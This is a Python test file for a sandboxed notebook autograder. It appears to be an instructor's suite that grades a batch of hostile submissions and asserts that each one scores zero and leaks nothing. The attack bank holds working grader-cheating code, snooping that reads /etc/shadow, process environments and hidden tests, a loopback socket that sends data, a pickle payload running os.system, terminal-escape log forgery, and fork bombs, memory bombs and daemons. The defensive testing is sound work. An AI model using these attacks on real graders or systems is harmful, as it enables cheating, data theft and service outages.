"""Sandboxed autograding: a bank of attacks on the grader, graded for real by the instructor's command.

Every attacker starts from the released assignment 1 (its functions raise NotImplementedError, an
honest 0) and adds an attack in its first solution cell: cheating (blank the tests, drop asserts,
patch the checks, an ``__eq__`` that always says True), snooping (sources, hidden tests, gradebook,
other submissions, the grader's environment, the network), vandalism (the gradebook, other
submissions) or denial of service (exits, a segfault, loops, bombs, daemons, floods). The whole batch
goes through ``python -m course_lib.grading autograde`` in one call, two submissions at a time, next
to a correct submission and a partly correct one. Each attacker must score 0, nothing secret may
reach its graded notebook, the others' grades and the gradebook must be intact, no process may
survive, and the batch must finish.
"""
from __future__ import annotations

import json
import re
import os
import pickle
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import torch

import shutil

from conftest import ROOT
from submission_bank import ASSIGNMENT, POINTS, RELEASE, solution_code

from course_lib.grading.autograder import cli, jail, protocol

ROOT_ONLY = pytest.mark.skipif(not jail.can_isolate(),
                               reason="the sandbox needs root (namespaces, another user); CI runs as root")
SECRET_ENV = "GRADER_API_TOKEN"
SECRET = "tok-5f1c0ffee-do-not-leak"
FILE_SECRET = "course-secret-7b2d"
OTHER_MARKER = "# correct-student-private-marker-8841"
CANARY = Path("/tmp/sandbox-test-canary-pwned")

# The released first solution cell raises NotImplementedError; an attack replaces it.
BLANK_SIZE = "def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):\n    raise NotImplementedError()\n"

ATTACKS: dict[str, str] = {
    # Cheating: make the tests pass without answers.
    "input_transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: [])\n" + BLANK_SIZE,
    "ast_transformer": """
import ast
class DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return None
get_ipython().ast_transformers.append(DropAsserts())
def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    return 0
""",
    "patched_testing": """
import numpy.testing, torch.testing, course_lib.grading as g, course_lib.grading.compare as cmp
numpy.testing.assert_allclose = lambda *a, **k: None
torch.testing.assert_close = lambda *a, **k: None
cmp.describe_difference = lambda *a, **k: None
for name in dir(g):
    if name.startswith("check_"):
        setattr(g, name, lambda *a, **k: print("all cases passed"))
import builtins
builtins.AssertionError = type("Nothing", (Exception,), {})
""" + BLANK_SIZE,
    "eq_always_true": """
import torch
class Anything(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
class AnyTensor(torch.Tensor):
    def __eq__(self, other): return True
def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    return Anything(0)
def conv2d_loops(input, weight, bias=None, stride=1, padding=0, dilation=1):
    return torch.zeros(1).as_subclass(AnyTensor)
""",
    "read_later_cells": """
import inspect, json, os, sys, gc
found = []
for path in os.listdir("."):
    if path.endswith(".ipynb"):
        found += [c["source"] for c in json.load(open(path))["cells"]
                  if "BEGIN " + "HIDDEN" in "".join(c["source"]) and "found" not in "".join(c["source"])]
def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    frames = [f.frame.f_code.co_filename for f in inspect.stack()]
    hidden = [o for o in gc.get_objects() if isinstance(o, (list, dict)) and "BEGIN " + "HIDDEN" in repr(o)[:100000]][:3]
    raise RuntimeError(f"frames={frames} hidden={hidden} notebook={found}")
""",
    # Snooping: the course folder, the gradebook, other students, the grader's environment.
    "snoop_files": """
import os, glob
loot = {}
for pattern in ["COURSE/secret.txt", "COURSE/gradebook.db", "COURSE/solutions/*/*.ipynb",
                "COURSE/submitted/*/*/*.ipynb", "COURSE/autograded/*/*/*.ipynb", "/root/*", "/root/.*",
                "/proc/1/environ", "/proc/*/environ", "/etc/shadow", "/work/main/solutions/*/*.ipynb",
                "/work/main/gradebook.db"]:
    for path in glob.glob(pattern):
        try:
            loot[path] = open(path, "rb").read(200000).decode("latin-1")
        except Exception as err:
            loot[path] = "DENIED " + type(err).__name__
def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    raise RuntimeError(repr(loot) + repr(dict(os.environ)) + repr(os.listdir("/")))
""",
    "snoop_network": """
import socket
def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    s = socket.create_connection(("127.0.0.1", PORT), timeout=3)
    s.sendall(b"stolen")
    return 0
""",
    # Vandalism: rewrite every grade, other students' work, plant files.
    "write_gradebook": """
import sqlite3, glob, os
for db in glob.glob("COURSE/gradebook.db"):
    con = sqlite3.connect(db)
    con.execute("UPDATE grade SET manual_score = 0")
    con.commit()
for nb in glob.glob("COURSE/submitted/*/*/*.ipynb") + glob.glob("COURSE/solutions/*/*.ipynb"):
    open(nb, "w").write("{}")
open("COURSE/planted.txt", "w").write("x")
""" + BLANK_SIZE,
    "unpickle": """
import pickle
weights = pickle.loads(PAYLOAD)  # runs the payload, inside the sandbox only (a weights.pkl would not be collected)
def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    return {"__tensor__": {"dtype": "float32", "shape": [1], "data": "!!"}}
""",
    # Forging the instructor's log: terminal escapes (clear the screen, retitle the terminal, a bell, a carriage
    # return over the line) and lines that read like the grader's, in a cell's error, a test's error and stderr.
    "forged_log": """
import sys
FORGED = ("\\x1b[2J\\x1b]0;pwned\\x07\\r[sandbox] forged_log/a1_convolution: graded 28/28 FORGED-LINE\\n"
          "[sandbox] alice/a1_convolution: graded in 1.0 s FORGED-LINE\\nalice                    28 FORGED-LINE")
print(FORGED, file=sys.stderr)
def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    raise ValueError(FORGED)
raise RuntimeError(FORGED)
""",
    # Denial of service.
    "os_exit": "import os\nos._exit(0)\n" + BLANK_SIZE,
    "sys_exit": "import sys\ndef conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):\n    sys.exit(0)\n",
    "segfault": "import ctypes\nctypes.string_at(0)\n" + BLANK_SIZE,
    "sigint_busy_loop": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
    "infinite_loop_in_call": "def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):\n    while True:\n        pass\n",
    "memory_bomb": "blocks = []\nwhile True:\n    blocks.append(bytearray(64 << 20))\n",
    "fork_bomb": """
import os, time
made = 0
for _ in range(5000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        made += 1
    except OSError:
        break
print("forked", made)
""" + BLANK_SIZE,
    "daemon": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)
        open("CANARY", "w").write("survived")
        time.sleep(600)
    os._exit(0)
""" + BLANK_SIZE,
    "huge_line": "print('x' * (300 << 20))\ndef conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):\n"
                 "    print('y' * (50 << 20))\n    return 'z' * (40 << 20)\n",
    "huge_file": """
with open("big.bin", "wb") as f:
    try:
        for _ in range(2048):
            f.write(b"\\0" * (1 << 20))
    except OSError as err:
        print("stopped:", err)
""" + BLANK_SIZE,
}


def make_course(root: Path) -> Path:
    """A fresh course directory (config + solutions) whose assignments/ and gradebook come from a release."""
    shutil.copy(ROOT / "nbgrader_config.py", root)
    shutil.copytree(ROOT / "solutions" / ASSIGNMENT, root / "solutions" / ASSIGNMENT)
    cli.release(root, [ASSIGNMENT])
    return root


def read_notebook(path: Path) -> dict:
    import nbformat

    return nbformat.read(str(path), as_version=4)


def gradebook_scores(course: Path, assignment: str, students) -> dict[str, dict[str, float]]:
    """``student -> {grade_id: auto_score}`` for every student that was autograded."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        return {s: {g.name: g.auto_score for g in gb.find_submission_notebook(assignment, assignment, s).grades}
                for s in students if (course / "autograded" / s).exists()}


class Payload:
    def __reduce__(self):
        return (os.system, (f"echo pwned > {CANARY}",))


def _notebook(cells: dict[str, str]) -> str:
    nb = json.loads(RELEASE.read_text(encoding="utf-8"))
    for cell in nb["cells"]:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if grade_id in cells:
            cell["source"] = cells[grade_id]
    return json.dumps(nb)


@ROOT_ONLY
def test_two_grading_processes_at_once_never_share_a_sandbox_uid():
    # Bug caught (issue 14, point 8): every run used uids BASE + slot, so a fork bomb graded in one run
    # exhausted the process limit of the sandboxes of another run at the same time.
    code = "import time\nfrom course_lib.grading.autograder import jail\nprint(jail.uid_block(), flush=True)\ntime.sleep(3)"
    runs = [subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            for _ in range(2)]
    blocks = [int(run.communicate(timeout=60)[0]) for run in runs]
    assert blocks[0] != blocks[1], blocks


def _sandbox_uids_running(log: str) -> list[str]:
    """Processes left running under the sandbox uids this run used (the blocks its log names: another
    grading run on the machine has blocks of its own)."""
    blocks = {int(b) for b in re.findall(r"\(block (\d+)\) for this grading process", log)}
    assert blocks, "the grading run named no block of sandbox uids"
    ours = {jail.sandbox_uid(slot, block) for block in blocks for slot in range(jail.UID_BLOCK)}
    out = subprocess.run(["ps", "-eo", "uid=,pid=,args="], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if int(line.split()[0]) in ours]


def listening_port() -> tuple[int, list, threading.Event]:
    """A port on the host's loopback that records every connection made to it (a sandbox must make
    none), the connections list, and the event that stops it."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.5)
    connections, stop = [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept())
            except OSError:
                pass
    threading.Thread(target=accept, daemon=True).start()
    return listener.getsockname()[1], connections, stop


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    course = make_course(tmp_path_factory.mktemp("course"))
    (course / "secret.txt").write_text(FILE_SECRET)
    CANARY.unlink(missing_ok=True)
    port, connections, stop = listening_port()

    inbox = tmp_path_factory.mktemp("inbox")
    correct = solution_code()
    correct["conv_output_size"] += f"\n{OTHER_MARKER}\n"
    # Right except for the convolution with loops, which crashes the interpreter: only its tests fail.
    partly = dict(solution_code())
    partly["conv2d_loops"] = "import ctypes\n" + partly["conv2d_loops"].replace('    """\n', '    """\n    ctypes.string_at(0)\n', 1)
    students = {"correct": correct, "segfault_in_one_part": partly}
    for name, code in ATTACKS.items():
        code = code.replace("COURSE", str(course)).replace("PORT", str(port)).replace("CANARY", str(CANARY)) \
            .replace("PAYLOAD", repr(pickle.dumps(Payload())))
        students[name] = {"conv_output_size": code}
    for name, cells in students.items():
        (inbox / name).mkdir()
        (inbox / name / f"{ASSIGNMENT}.ipynb").write_text(_notebook(cells), encoding="utf-8")

    gradebook_before = (course / "gradebook.db").stat().st_size
    env = dict(os.environ, **{SECRET_ENV: SECRET})
    start = time.perf_counter()
    result = subprocess.run([sys.executable, "-m", "course_lib.grading", "--root", str(course), "autograde", ASSIGNMENT,
                             "--submissions", str(inbox), "--jobs", "2", "--start-timeout", "30", "--call-timeout", "10",
                             "--timeout", "60"], capture_output=True, text=True, env=env, timeout=900)
    seconds = time.perf_counter() - start
    time.sleep(4)  # a surviving daemon would write its canary by now
    stop.set()
    print(f"\nsandboxed: {len(students)} submissions in {seconds:.1f} s with 2 jobs")
    print(result.stderr[-1500:])
    (Path(str(course)) / "grading.log").write_text(result.stdout + result.stderr)
    return {"course": course, "result": result, "students": students, "connections": connections,
            "seconds": seconds, "gradebook_before": gradebook_before, "survivors": _sandbox_uids_running(result.stderr)}


def test_wire_round_trip_and_exact_types():
    values = [None, True, 3, -2.5, float("nan"), "s", [1, (2, 3)], {"a": torch.float64},
              torch.arange(6, dtype=torch.float32).reshape(2, 3), torch.tensor([True, False]),
              torch.zeros(0, 3, dtype=torch.int64), torch.ones(2, dtype=torch.bfloat16), torch.Size([2, 3])]
    for value in values:
        back = protocol.decode(json.loads(json.dumps(protocol.encode(value))))
        if isinstance(value, torch.Tensor):
            assert type(back) is torch.Tensor and back.dtype == value.dtype and torch.equal(back, value)
        elif isinstance(value, float) and value != value:
            assert back != back
        else:
            assert back == (tuple(value) if isinstance(value, torch.Size) else value) and type(back) is (
                tuple if isinstance(value, torch.Size) else type(value))

    class Anything(int):
        def __eq__(self, other):
            return True

    for bad in (Anything(1), torch.zeros(1).as_subclass(type("T", (torch.Tensor,), {})), object(), {1: 2},
                Payload()):
        with pytest.raises(protocol.WireError):
            protocol.encode(bad)
    for malformed in ({"__tensor__": {"dtype": "float32", "shape": [2], "data": "AAAA"}},
                      {"__tensor__": {"dtype": "object", "shape": [1], "data": ""}}, {"__pickle__": "x"},
                      {"a": 1, "b": 2}, {"__tensor__": {"dtype": "float32", "shape": [-1], "data": ""}}):
        with pytest.raises((protocol.WireError, ValueError)):
            protocol.decode(malformed)


@ROOT_ONLY
def test_every_attack_scores_zero_and_the_batch_finishes(attacked):
    result = attacked["result"]
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-4000:]
    scores = gradebook_scores(attacked["course"], ASSIGNMENT, attacked["students"])
    assert set(scores) == set(attacked["students"]), f"not graded: {set(attacked['students']) - set(scores)}"
    assert {g: scores["correct"][g] for g in POINTS} == POINTS, "the correct submission lost points"
    for student in ATTACKS:
        got = {g: scores[student][g] for g in POINTS}
        assert sum(got.values()) == 0, f"{student} scored {got}"


@ROOT_ONLY
def test_a_crash_costs_only_the_tests_it_affects(attacked):
    got = gradebook_scores(attacked["course"], ASSIGNMENT, ["segfault_in_one_part"])["segfault_in_one_part"]
    failed = {g for g in POINTS if got[g] == 0}
    assert failed == {"test_conv2d_loops", "test_conv2d_loops_hidden"}, got
    assert "SIGSEGV" in attacked["result"].stderr


@ROOT_ONLY
def test_student_text_reaches_the_log_escaped_and_marked(attacked):
    # Bug caught (issue 14, point 8): a student's exception text reached the instructor's terminal raw.
    log = attacked["result"].stdout + attacked["result"].stderr
    for raw in ("\x1b[2J", "\x1b]0;pwned", "\x07", "\r[sandbox]"):
        assert raw not in log, f"{raw!r} from a student reached the log raw"
    assert r"\x1b[2J\x1b]0;pwned\x07\r[sandbox] forged_log" in log, "the student's text is not shown escaped"
    forged = [line for line in log.splitlines() if "FORGED-LINE" in line]
    assert any(line.startswith("forged_log| ") for line in forged), "the forging student's text is not marked as theirs"
    for line in forged:  # only behind the student's mark (also in nbgrader's log), or escaped in the failure summary
        assert re.match(r"(\[AutogradeApp \| WARNING\] )?forged_log\| |  test_", line), f"a forged line: {line!r}"


@ROOT_ONLY
def test_nothing_secret_reaches_a_graded_notebook(attacked):
    course = attacked["course"]
    hidden = "SizeCase(227, 11, stride=4)"  # a hidden test case of the source
    for student in ATTACKS:
        nb = read_notebook(course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
        shown = json.dumps([c.get("outputs", []) for c in nb["cells"]])
        for secret in (SECRET, FILE_SECRET, OTHER_MARKER, "SQLite format", "BEGIN HIDDEN TESTS", hidden, str(course)
                       + "/solutions"):
            assert secret not in shown, f"{student} leaked {secret!r}"
    snooped = read_notebook(course / "autograded" / "snoop_files" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    test = next(c for c in snooped["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "test_conv_output_size")
    assert "/home/student" in json.dumps(test["outputs"]), "the snooping attack did not run at all"


@ROOT_ONLY
def test_no_network_no_vandalism_no_survivors(attacked):
    course = attacked["course"]
    assert attacked["connections"] == [], "a submission reached the network"
    assert not (course / "planted.txt").exists()
    assert not CANARY.exists(), "code outside the sandbox ran a payload, or a daemon survived"
    assert attacked["survivors"] == [], f"processes survived the sandbox: {attacked['survivors']}"
    assert OTHER_MARKER in (course / "submitted" / "correct" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()
    assert "BEGIN HIDDEN TESTS" in (course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()
    with sqlite3.connect(course / "gradebook.db") as con:  # one submission per student, none doubled
        rows = con.execute("SELECT student_id, COUNT(*) FROM submitted_assignment GROUP BY student_id").fetchall()
    assert sorted(rows) == sorted((s, 1) for s in attacked["students"])


@ROOT_ONLY
def test_floods_are_capped(attacked):
    course = attacked["course"]
    for student in ("huge_line", "huge_file"):
        path = course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        assert path.stat().st_size < 2 << 20, f"{student}: graded notebook of {path.stat().st_size} bytes"
    assert not list(course.rglob("big.bin")), "the huge file reached the course folder"
    assert len(attacked["result"].stderr) < 4 << 20


# ------------------------------------------------------------------------------------------------------------
# Attacks on a class-based assignment: assignment 4, whose tests build the student's modules (remote
# modules, course_lib.grading.autograder.proxy) and read a submitted weights file. Each attacker is the correct
# solution except its squeeze-excitation cell (the attack) and, for some, its weights file; the trained
# U-Net part is left undone by everyone (raises NotImplementedError), so no submission trains for minutes.
A4 = "a4_attention_segmentation"
A4_ATTACKED = {"test_squeeze_excitation", "test_squeeze_excitation_hidden"}
A4_UNDONE = {"test_trained_unet", "test_trained_unet_hidden"}
A4_HIDDEN = ('SECase("32 channels squeezed to 8"', "BEGIN HIDDEN TESTS", "seed=2718")
SE_HEAD = "class SqueezeExcitation(nn.Module):\n    def __init__(self, input_channels, squeeze_channels):\n" \
          "        super().__init__()\n        self.fc1 = nn.Conv2d(input_channels, squeeze_channels, 1)\n" \
          "        self.fc2 = nn.Conv2d(squeeze_channels, input_channels, 1)\n"

A4_ATTACKS: dict[str, str] = {
    # a forward whose output claims to equal anything (a tensor subclass, an int subclass)
    "module_eq_always_true": """
class AnyTensor(torch.Tensor):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
""" + SE_HEAD + """
    def forward(self, x):
        return torch.zeros_like(x).as_subclass(AnyTensor)
""",
    # the class patches the testing tools and every check when it is defined, and computes nothing
    "class_patches_the_checks": """
import torch.testing, numpy.testing, course_lib.grading as g, course_lib.grading.compare as cmp
torch.testing.assert_close = lambda *a, **k: None
numpy.testing.assert_allclose = lambda *a, **k: None
cmp.describe_difference = lambda *a, **k: None
for name in dir(g):
    if name.startswith("check_"):
        setattr(g, name, lambda *a, **k: print("all cases passed"))
""" + SE_HEAD + """
    def forward(self, x):
        return x
""",
    # attributes that hide the methods a check calls on the module, and a wrong forward
    "shadowed_methods": SE_HEAD + """
        self.parameters, self.state_dict, self.load_state_dict, self.double = (), 0, "ok", None
        self.training = "yes"
    def forward(self, x):
        return x
""",
    # the worker's own description of the module is forged to look like torchvision's layer (so that the
    # reference weights load into the mirror), while the module that computes stays the student's
    "forged_description": """
import torchvision, course_lib.grading.autograder.module_codec as module_codec
real_describe = module_codec.describe
def describe(module):
    if type(module).__name__ != "SqueezeExcitation":
        return real_describe(module)
    description, nodes = real_describe(torchvision.ops.SqueezeExcitation(module.c, module.s))
    nodes[0] = module
    return description, nodes
module_codec.describe = describe
class SqueezeExcitation(nn.Module):
    def __init__(self, input_channels, squeeze_channels):
        super().__init__()
        self.c, self.s = input_channels, squeeze_channels
    def forward(self, x):
        return x * 0.5
""",
    # replies forged on the wire: a module made earlier in place of a new one, a malformed module as the output
    "forged_replies": """
import course_lib.grading.autograder.protocol as protocol
real_encode = protocol.encode
made = []
def encode(value, depth=0, hook=None):
    if getattr(value, "forge", False):
        return {"__remote_module__": {"handle": 1, "module": {"nodes": [], "tensors": []}}}
    if type(value).__name__ == "SqueezeExcitation":
        made.append(value)
        if len(made) > 1:
            return {"__remote_handle__": [1, 0]}
    return real_encode(value, depth, hook)
protocol.encode = encode
""" + SE_HEAD + """
    def forward(self, x):
        y = x.clone()
        y.forge = True
        return y
""",
    # looks for the hidden tests from inside the module: frames, every object, the files it can see
    "module_reads_hidden_tests": """
import gc, glob, inspect, json
""" + SE_HEAD + """
        found = [f.filename + ":" + repr(f.frame.f_locals)[:2000] for f in inspect.stack()]
        found += [repr(o)[:3000] for o in gc.get_objects() if isinstance(o, str) and "Hidden" in o][:20]
        for path in glob.glob("/home/student/**/*", recursive=True) + glob.glob("/tmp/**/*", recursive=True):
            try:
                found.append(path + ":" + open(path, errors="replace").read(100000))
            except Exception:
                pass
        raise RuntimeError("found: " + " | ".join(found))
    def forward(self, x):
        return x
""",
    "forward_never_returns": SE_HEAD + "    def forward(self, x):\n        while True:\n            pass\n",
    "forward_exits": SE_HEAD + "    def forward(self, x):\n        import os\n        os._exit(0)\n",
    "forward_huge_output": SE_HEAD + "    def forward(self, x):\n        return torch.zeros(80 << 20)\n",
    # a correct answer whose weights file is a pickle that runs a command when unpickled
    "evil_weights_file": None,
}


def _a4_submission(release: Path, source: Path, attack: str | None) -> str:
    """The correct solution (set-up and solution cells from the source), with an attack in place of
    the squeeze-excitation cell and the training part left undone."""
    solutions = {c["metadata"]["nbgrader"]["grade_id"]: "".join(c["source"])
                 for c in json.loads(source.read_text())["cells"]
                 if c["cell_type"] == "code" and c["metadata"].get("nbgrader", {}).get("solution")}
    solutions["train_unet"] = "def train_segmentation_model(path):\n    raise NotImplementedError()\n"
    if attack is not None:
        solutions["squeeze_excitation"] = attack
    nb = json.loads(release.read_text())
    for cell in nb["cells"]:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if grade_id in solutions:
            cell["source"] = solutions[grade_id]
    return json.dumps(nb)


@pytest.fixture(scope="module")
def attacked_a4(tmp_path_factory):
    course = tmp_path_factory.mktemp("course_a4")
    shutil.copy(ROOT / "nbgrader_config.py", course)
    shutil.copytree(ROOT / "solutions" / A4, course / "solutions" / A4)
    cli.release(course, [A4])
    CANARY.unlink(missing_ok=True)
    inbox = tmp_path_factory.mktemp("inbox_a4")
    release, source = course / "assignments" / A4 / f"{A4}.ipynb", course / "solutions" / A4 / f"{A4}.ipynb"
    students = {"correct": None, **A4_ATTACKS}
    for name, attack in students.items():
        (inbox / name).mkdir()
        (inbox / name / f"{A4}.ipynb").write_text(_a4_submission(release, source, attack), encoding="utf-8")
    (inbox / "evil_weights_file" / "segmentation_unet.pt").write_bytes(pickle.dumps({"fc1.weight": Payload()}))
    start = time.perf_counter()
    result = subprocess.run([sys.executable, "-m", "course_lib.grading", "--root", str(course), "autograde", A4,
                             "--submissions", str(inbox), "--jobs", "2", "--start-timeout", "60", "--call-timeout", "10",
                             "--timeout", "300"], capture_output=True, text=True, timeout=1200)
    seconds = time.perf_counter() - start
    time.sleep(1)
    print(f"\nsandboxed {A4}: {len(students)} submissions in {seconds:.1f} s with 2 jobs")
    return {"course": course, "result": result, "students": students, "survivors": _sandbox_uids_running(result.stderr)}


@ROOT_ONLY
def test_class_based_attacks_score_zero_on_what_they_attack_only(attacked_a4):
    result = attacked_a4["result"]
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-4000:]
    assert "UNSANDBOXED" not in result.stderr, "assignment 4 fell back to stock nbgrader"
    points = graded_points_of(attacked_a4["course"] / "solutions" / A4 / f"{A4}.ipynb")
    scores = gradebook_scores(attacked_a4["course"], A4, attacked_a4["students"])
    assert set(scores) == set(attacked_a4["students"])
    expected_correct = {g: 0 if g in A4_UNDONE else p for g, p in points.items()}
    assert {g: scores["correct"][g] for g in points} == expected_correct, "the correct submission lost points"
    for student in A4_ATTACKS:
        expected = {g: 0 if g in A4_ATTACKED and student != "evil_weights_file" else p
                    for g, p in expected_correct.items()}
        assert {g: scores[student][g] for g in points} == expected, student


@ROOT_ONLY
def test_class_based_attacks_leak_nothing_and_leave_nothing(attacked_a4):
    course = attacked_a4["course"]
    assert not CANARY.exists(), "the grader unpickled a submitted weights file"
    assert attacked_a4["survivors"] == [], f"processes survived the sandbox: {attacked_a4['survivors']}"
    for student in A4_ATTACKS:
        nb = read_notebook(course / "autograded" / student / A4 / f"{A4}.ipynb")
        shown = json.dumps([c.get("outputs", []) for c in nb["cells"]])
        for secret in A4_HIDDEN:
            assert secret not in shown, f"{student} leaked {secret!r}"
    evil = read_notebook(course / "autograded" / "evil_weights_file" / A4 / f"{A4}.ipynb")
    assert "weights_only=True" in json.dumps([c.get("outputs", []) for c in evil["cells"]])
    snooped = read_notebook(course / "autograded" / "module_reads_hidden_tests" / A4 / f"{A4}.ipynb")
    assert "found: " in json.dumps([c.get("outputs", []) for c in snooped["cells"]]), "the snooping did not run"
    for student in ("forward_never_returns", "forward_exits", "forward_huge_output"):
        assert f"[sandbox] {student}/{A4}" in attacked_a4["result"].stderr


def graded_points_of(source: Path) -> dict[str, float]:
    nb = json.loads(source.read_text())
    return {c["metadata"]["nbgrader"]["grade_id"]: c["metadata"]["nbgrader"]["points"] for c in nb["cells"]
            if c["cell_type"] == "code" and c["metadata"].get("nbgrader", {}).get("grade")
            and not c["metadata"]["nbgrader"].get("solution")}
